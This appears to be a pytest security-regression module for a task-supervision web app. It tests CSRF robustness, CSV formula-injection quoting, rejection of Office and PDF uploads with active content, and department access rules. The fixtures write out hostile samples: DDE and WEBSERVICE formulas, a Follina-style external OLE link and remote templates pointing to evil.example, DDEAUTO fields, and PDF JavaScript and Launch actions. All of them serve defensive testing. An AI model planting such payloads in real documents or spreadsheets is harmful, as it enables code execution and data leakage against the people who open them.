"""Issue 12, the fourth round: what an attacker's rerun found past the third, on SQLite and
PostgreSQL; each test failed on the code before its fix. One app per database for the module.

- hostile bytes: a CSRF token that is not ASCII (form field, header or cookie) was compared by
  ``secrets.compare_digest``, which raises on such text: a 500 for anyone, signed in or not;
- formula injection: a line break *inside* a cell (``x\\r=HYPERLINK(…)``) was written unquoted
  by the CSV writer of frames (``lantu export``, the task table's CSV, ``lantu index inputs``)
  and by the milestones CSV of ``lantu extract``: a spreadsheet starts a new row there, and the
  row starts with a live formula;
- files handed back: Office evidence that acts when opened (a remote template, an external OLE
  object as in "Follina", DDE and INCLUDE fields, an altChunk, embedded objects, an external
  workbook link or DDE link, DDE and WEBSERVICE formulas) and PDF evidence that runs script or
  launches programs were accepted and handed to supervisors;
- access: a unit's part (分解到内设处室) kept its department when its task moved to another, so
  the old department still read and wrote it and its progress rolled up into a task it no
  longer led; a supervisor could move a part alone to another department;
- writes: a date in JSON or a form was also read from a number or a digit string (seconds since
  1970: ``0`` is 1970-01-01, ``"1654646400"`` 2022-06-08) or a date-time: a date is written
  ``YYYY-MM-DD``.
"""

from __future__ import annotations

import csv
import io
import zipfile
import zlib

import docx
import openpyxl
import pytest
from sqlalchemy import func, select
from typer.testing import CliRunner

from lantu.store.models import PlanNodeRow
from lantu.store.models_web import EvidenceFileRow
from webutil import backend_app, csrf_of, login, post, report_version, task_ids, task_with_part


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def env(request, web_template_db, tmp_path_factory):
    with backend_app(request, web_template_db, tmp_path_factory.mktemp("round4"),
                     ("admin", "supervisor", "rep_czj"), "round4") as app:
        yield app


PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
LEADERS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


def _count(db, row) -> int:
    with db.session() as s:
        return s.scalar(select(func.count()).select_from(row))


# -- hostile bytes -------------------------------------------------------------------------------

@pytest.mark.parametrize("how", ["field", "header", "cookie", "session"])
def test_a_csrf_token_that_is_not_ascii_is_refused_not_a_crash(env, how):
    client, _, _, _ = env
    client.cookies.clear()
    if how == "session":
        login(client, "viewer")
    good = csrf_of(client, "/account" if how == "session" else "/login")
    data = {"username": "viewer", "password": "wrong-password-2026", "csrf_token": good}
    headers: dict[str, bytes] = {}
    if how in ("field", "session"):
        data["csrf_token"] = "令牌é"
    elif how == "header":
        del data["csrf_token"]
        headers["x-csrf-token"] = b"\xff\xfe"
    else:
        client.cookies.clear()
        headers["cookie"] = "lantu_csrf=\xe9t\xe9".encode("latin-1")
    path = "/account/password" if how == "session" else "/login"
    r = client.post(path, data=data, headers=headers)
    assert r.status_code == 403, (r.status_code, r.text[:300])
    assert client.get("/healthz").status_code == 200
    client.cookies.clear()


# -- formula injection ---------------------------------------------------------------------------

def _spreadsheet_rows(text: str) -> list[list[str]]:
    """Rows as a spreadsheet reads a CSV file: a record ends at CR, LF or CRLF outside quotes
    (Excel and LibreOffice both end a row at a bare CR)."""
    rows, row, cell, quoted, i = [], [], "", False, 0
    while i < len(text):
        ch = text[i]
        if quoted:
            if ch == '"' and text[i + 1:i + 2] == '"':
                cell += '"'
                i += 1
            elif ch == '"':
                quoted = False
            else:
                cell += ch
        elif ch == '"' and cell == "":
            quoted = True
        elif ch == ",":
            row.append(cell)
            cell = ""
        elif ch in "\r\n":
            rows.append(row + [cell])
            row, cell = [], ""
            if ch == "\r" and text[i + 1:i + 2] == "\n":
                i += 1
        else:
            cell += ch
        i += 1
    if cell or row:
        rows.append(row + [cell])
    return rows


def _live_formulas(text: str) -> list[str]:
    return [c for row in _spreadsheet_rows(text) for c in row if c and c[0] in LEADERS]


#: no comma or quote in them: those would make the writer quote the cell anyway
BROKEN = ["x\r=cmd|' /C calc'!A0", "y\n@SUM(1+1)*cmd|' /C calc'!A0", "z\r\n+WEBSERVICE(A1)",
          "w\r\uff1dcmd|' /C calc'!A0"]


def test_the_frame_writer_quotes_a_cell_holding_a_line_break():
    import pandas as pd

    from lantu.tabular import csv_frame

    text = csv_frame(pd.DataFrame({"title": BROKEN, "n": [1, 2, 3, 4]}))
    assert _live_formulas(text) == []
    back = list(csv.reader(io.StringIO(text, newline="")))
    assert [r[0] for r in back[1:]] == BROKEN  # the cells are kept whole


def test_the_milestones_csv_quotes_a_cell_holding_a_line_break():
    from lantu.ingest.milestone_io import milestones_to_csv
    from lantu.ingest.milestones import MilestoneCandidate

    m = MilestoneCandidate(region_code="140100", year=2023, kind="designation", text=BROKEN[0],
                           excerpt=BROKEN[1], start=0, end=5, nodes=())
    assert _live_formulas(milestones_to_csv([m])) == []


def test_lantu_export_of_tasks_keeps_a_title_with_a_line_break_in_its_cell(env, tmp_path):
    from lantu.cli import app

    client, auth, db, _ = env
    r = client.post("/api/v1/tasks", headers=auth["admin"], json={
        "plan": "taiyuan-2021-11", "kind": "task", "lead_department": "czj",
        "title": "探针\r=cmd|' /C calc'!A0"})
    assert r.status_code == 201, r.text
    out = tmp_path / "tasks.csv"
    res = CliRunner().invoke(app, ["export", "tasks", "-f", "csv", "-o", str(out), "--db", db.url])
    assert res.exit_code == 0, res.output
    assert _live_formulas(out.read_text(encoding="utf-8")) == []


# -- files handed back: Office and PDF evidence that acts when opened ----------------------------

def _package(data: bytes, edit) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    parts = {n: src.read(n) for n in src.namelist()}
    edit(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for n, b in parts.items():
            z.writestr(n, b)
    return out.getvalue()


def _docx(edit=None, *, link: bool = False) -> bytes:
    d = docx.Document()
    p = d.add_paragraph("进展说明：已完成")
    if link:  # a hyperlink is an external relationship too, and harmless
        rid = d.part.relate_to("https://www.taiyuan.gov.cn/", docx.opc.constants.RELATIONSHIP_TYPE
                               .HYPERLINK, is_external=True)
        h = docx.oxml.OxmlElement("w:hyperlink")
        h.set(docx.oxml.ns.qn("r:id"), rid)
        p._p.append(h)
    buf = io.BytesIO()
    d.save(buf)
    return _package(buf.getvalue(), edit) if edit else buf.getvalue()


def _xlsx(formula: str | None = None, edit=None) -> bytes:
    wb = openpyxl.Workbook()
    wb.active["A1"] = "完成率"
    wb.active["A2"] = formula or "=SUM(1,2)"
    wb.active["B1"].hyperlink = "https://www.taiyuan.gov.cn/"
    buf = io.BytesIO()
    wb.save(buf)
    return _package(buf.getvalue(), edit) if edit else buf.getvalue()


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _rel(parts, name, rid, kind, target, external=True):
    mode = ' TargetMode="External"' if external else ""
    parts[name] = parts.get(name, b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns='
                            b'"http://schemas.openxmlformats.org/package/2006/relationships">'
                            b'</Relationships>').replace(
        b"</Relationships>", f'<Relationship Id="{rid}" Type="{REL}{kind}" Target="{target}"'
                             f'{mode}/></Relationships>'.encode())


def _field(parts, instr: bytes):
    parts["word/document.xml"] = parts["word/document.xml"].replace(b"</w:body>", (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        + instr[:4] + b'</w:instrText></w:r><w:r><w:instrText xml:space="preserve">' + instr[4:]
        + b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body>'))


ACTIVE_OFFICE = {
    "remote template": lambda: _docx(lambda p: _rel(
        p, "word/_rels/settings.xml.rels", "rId9", "attachedTemplate", "http://evil.example/t.dotm")),
    "external OLE object (Follina)": lambda: _docx(lambda p: _rel(
        p, "word/_rels/document.xml.rels", "rId99", "oleObject",
        "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html")),
    "remote frame": lambda: _docx(lambda p: _rel(
        p, "word/_rels/webSettings.xml.rels", "rId3", "frame", "http://evil.example/f.docx")),
    "DDEAUTO field split over runs": lambda: _docx(lambda p: _field(
        p, b' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')),
    "DDE field": lambda: _docx(lambda p: _field(p, b' dde "cmd" "/c calc" ')),
    "INCLUDEPICTURE field": lambda: _docx(lambda p: _field(
        p, b' INCLUDEPICTURE "http://evil.example/track.png" \\d ')),
    "INCLUDETEXT field": lambda: _docx(lambda p: _field(p, b' INCLUDETEXT "\\\\\\\\evil\\\\s\\\\x.docx" ')),
    "altChunk": lambda: _docx(lambda p: (
        p.__setitem__("word/afchunk.mht", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"
                                          b"<html><script>alert(1)</script></html>"),
        _rel(p, "word/_rels/document.xml.rels", "rId98", "aFChunk", "afchunk.mht", external=False))),
    "embedded object": lambda: _docx(lambda p: p.__setitem__(
        "word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"MZ" * 64)),
    "external image": lambda: _docx(lambda p: _rel(
        p, "word/_rels/document.xml.rels", "rId97", "image", "http://evil.example/t.png")),
    "workbook DDE link": lambda: _xlsx(edit=lambda p: (
        p.__setitem__("xl/externalLinks/externalLink1.xml", b'<externalLink xmlns="http://schemas.'
                      b'openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
                      b'ddeTopic="/c calc"/></externalLink>'),
        _rel(p, "xl/_rels/workbook.xml.rels", "rId77", "externalLink",
             "externalLinks/externalLink1.xml", external=False))),
    "DDE formula": lambda: _xlsx("=cmd|' /C calc'!A0"),
    "DDE formula, spaced": lambda: _xlsx("=SUM(1)+MSEXCEL |'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''"),
    "WEBSERVICE formula": lambda: _xlsx('=WEBSERVICE("http://evil.example/?"&A1)'),
    "chart data with a DDE formula": lambda: _docx(lambda p: p.__setitem__(
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx", _xlsx("=cmd|' /C calc'!A0"))),
    "chart data with macros": lambda: _docx(lambda p: p.__setitem__(
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx", _xlsx(edit=lambda q: q.__setitem__(
            "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")))),
    "packages nested deep": lambda: _docx(lambda p: p.__setitem__(
        "word/embeddings/a.docx", _docx(lambda q: q.__setitem__(
            "word/embeddings/b.docx", _docx(lambda r: r.__setitem__(
                "word/embeddings/c.xlsx", _xlsx())))))),
    "macro sheet": lambda: _xlsx(edit=lambda p: p.__setitem__(
        "xl/macrosheets/sheet1.xml", b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/'
                                     b'office/excel/2006/main"/>')),
}


def _pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n" + body + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def _objstm(inner: bytes) -> bytes:
    data = zlib.compress(b"1 0 " + inner)
    return (b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n"
            % len(data) + data + b"\nendstream endobj")


ACTIVE_PDF = {
    "JavaScript open action": _pdf(b"1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert"
                                   b"(1))>>>>endobj"),
    "name escapes": _pdf(b"1 0 obj<</Type/Catalog/OpenAction<</S/#4Aava#53cript/#4A#53(x)>>>>endobj"),
    "Launch": _pdf(b"1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj"),
    "embedded file": _pdf(b"1 0 obj<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>endobj"),
    "script in a compressed object stream": _pdf(_objstm(b"<</Type/Catalog/AA<</O<</S/JavaScript"
                                                         b"/JS(x)>>>>>>")),
    "XFA form": _pdf(b"1 0 obj<</Type/Catalog/AcroForm<</XFA 3 0 R>>>>endobj"),
    "object stream packed with LZW": _pdf(b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/LZWDecode"
                                          b"/Length 3>>stream\nxyz\nendstream endobj"),
}


def _upload(client, db, name: str, data: bytes):
    login(client, "rep_czj")
    node = task_ids(db, "czj")[0]
    return post(client, f"/supervision/tasks/{node}/report",
                {"month": "2026-10", "text": "t", "percent": "1", "action": "save",
                 "version": report_version(db, node, "czj", "2026-10")},
                files=[("evidence", (name, data, "application/octet-stream"))],
                csrf_page=f"/supervision/tasks/{node}")


def _payload(case: str) -> bytes:
    return ACTIVE_OFFICE[case]() if case in ACTIVE_OFFICE else ACTIVE_PDF[case]


@pytest.mark.parametrize("case", list(ACTIVE_OFFICE) + list(ACTIVE_PDF))
def test_evidence_that_acts_when_opened_is_refused_before_it_is_written(tmp_path, case):
    from lantu.store import active, files

    data = _payload(case)
    ctype = files.sniff(data)
    assert ctype is not None and active.active_problem(data, ctype) is not None, case
    with pytest.raises(files.UploadRefused) as info:
        files.store_upload(tmp_path, data, max_bytes=10**7, original_name="证明" + files.ALLOWED[ctype])
    assert info.value.status == 415
    assert not any(p.is_file() for p in tmp_path.rglob("*"))


@pytest.mark.parametrize("case", ["DDEAUTO field split over runs", "external OLE object (Follina)",
                                  "DDE formula", "script in a compressed object stream"])
def test_a_report_with_evidence_that_acts_is_refused_and_leaves_nothing(env, case):
    from lantu.store import files

    client, _, db, home = env
    data = _payload(case)
    uploads = home / "uploads"
    before = sorted(uploads.rglob("*")) if uploads.exists() else []
    n = _count(db, EvidenceFileRow)
    r = _upload(client, db, "证明材料" + files.ALLOWED[files.sniff(data)], data)
    assert r.status_code == 415, (case, r.status_code)
    assert (sorted(uploads.rglob("*")) if uploads.exists() else []) == before
    assert _count(db, EvidenceFileRow) == n


def test_a_page_names_why_evidence_that_acts_is_refused(env):
    client, _, db, _ = env
    r = _upload(client, db, "证明材料.docx", _payload("DDE field"))
    assert r.status_code == 415 and "另存为" in r.text and "只接受" not in r.text


def test_evidence_stored_before_the_rule_is_withheld(env):
    """A file stored before uploads were checked for active content is not handed back."""
    from lantu.store import files

    client, auth, db, home = env
    assert _upload(client, db, "证明材料.docx", _docx(link=True)).status_code == 303
    with db.session() as s:
        row = s.scalars(select(EvidenceFileRow).order_by(EvidenceFileRow.id.desc())).first()
        evidence, stored = row.id, row.stored_name
    assert client.get(f"/supervision/evidence/{evidence}").status_code == 200
    files.stored_path(home, stored).write_bytes(_payload("external OLE object (Follina)"))
    r = client.get(f"/supervision/evidence/{evidence}")
    assert r.status_code == 403 and "不予下载" in r.text
    r = client.get(f"/supervision/evidence/{evidence}",
                   headers={**auth["rep_czj"], "accept": "application/json"})
    assert r.status_code == 403 and r.json()["error"] == "forbidden", r.text


@pytest.mark.parametrize("data", [
    pytest.param(_docx(link=True), id="docx with a hyperlink"),
    pytest.param(_xlsx(), id="xlsx with a SUM and a hyperlink"),
    pytest.param(_docx(lambda p: p.__setitem__("word/embeddings/Microsoft_Excel_Worksheet.xlsx",
                                               _xlsx())), id="docx with chart data"),
    pytest.param(_pdf(b"1 0 obj<</Type/Catalog/OpenAction[2 0 R/Fit]/Pages 3 0 R>>endobj"),
                 id="pdf opening at a page"),
    pytest.param(PDF, id="plain pdf"),
])
def test_ordinary_office_and_pdf_evidence_is_still_accepted(data):
    from lantu.store import active, files

    ctype = files.sniff(data)
    assert ctype is not None and active.active_problem(data, ctype) is None


# -- access: a unit's part is its task's department's ------------------------------------------

def test_a_units_part_follows_its_task_to_another_department(env):
    client, auth, db, _ = env
    task, part = task_with_part(client, auth, "探针分解任务")
    r = client.patch(f"/api/v1/tasks/{part}", headers=auth["supervisor"],
                     json={"reason": "move the part alone", "lead_department": "fgw",
                           "version": 1})
    assert r.status_code == 422, r.text  # a part is its task's department's business
    r = client.patch(f"/api/v1/tasks/{task}", headers=auth["supervisor"],
                     json={"reason": "reassigned", "lead_department": "fgw", "version": 1})
    assert r.status_code == 200, r.text
    assert client.get(f"/api/v1/tasks/{part}", headers=auth["rep_czj"]).status_code == 404
    r = client.post(f"/api/v1/tasks/{part}/unit-progress", headers=auth["rep_czj"],
                    json={"percent": 90})
    assert r.status_code == 404, r.text
    with db.session() as s:
        assert s.get(PlanNodeRow, part).lead_department == "fgw"
        assert s.get(PlanNodeRow, part).progress == 0


# -- writes: a date is a date --------------------------------------------------------------------

@pytest.mark.parametrize("value", [0, 1654646400, "1654646400", "2026-01-01T00:00:00", True,
                                   "2026-1-1", " 2026-01-01"])
def test_a_date_in_json_is_written_yyyy_mm_dd(env, value):
    client, auth, db, _ = env
    task = task_ids(db, "czj")[0]
    base = {"plan": "taiyuan-2021-11", "kind": "task", "title": "探针", "lead_department": "czj"}
    for r in (client.post("/api/v1/tasks", headers=auth["admin"], json={**base, "due": value}),
              client.post("/api/v1/tasks", headers=auth["admin"],
                          json={**base, "milestones": [{"title": "m", "due": value}]}),
              client.patch(f"/api/v1/tasks/{task}", headers=auth["admin"],
                           json={"reason": "r", "start": value, "version": 0}),
              client.post(f"/api/v1/tasks/{task}/reminders", headers=auth["supervisor"],
                          json={"message": "m", "reply_by": value}),
              client.post(f"/api/v1/tasks/{task}/extension-requests", headers=auth["rep_czj"],
                          json={"due": value, "reason": "r"})):
        assert r.status_code == 422, (r.request.url, r.text[:300])


def test_a_date_in_a_form_is_written_yyyy_mm_dd(env):
    client, _, db, _ = env
    login(client, "supervisor")
    n = _count(db, PlanNodeRow)
    for due in ("1654646400", "2026-01-01T00:00:00"):
        r = post(client, "/supervision/tasks/new", {"plan": "taiyuan-2021-11", "kind": "task",
                                                    "title": "探针表单", "lead_department": "czj",
                                                    "due": due, "reason": "r"},
                 csrf_page="/supervision/tasks/new")
        assert r.status_code == 422, r.text[:300]
    assert _count(db, PlanNodeRow) == n
    r = post(client, "/supervision/tasks/new", {"plan": "taiyuan-2021-11", "kind": "task",
                                                "title": "探针表单", "lead_department": "czj",
                                                "due": "2026-06-30", "reason": "r"},
             csrf_page="/supervision/tasks/new")
    assert r.status_code == 303, r.text[:300]


def test_nothing_here_left_the_connection_unusable(env):
    client, auth, _, _ = env
    assert client.get("/api/v1/plans", headers=auth["admin"]).status_code == 200
    assert client.get("/healthz").status_code == 200

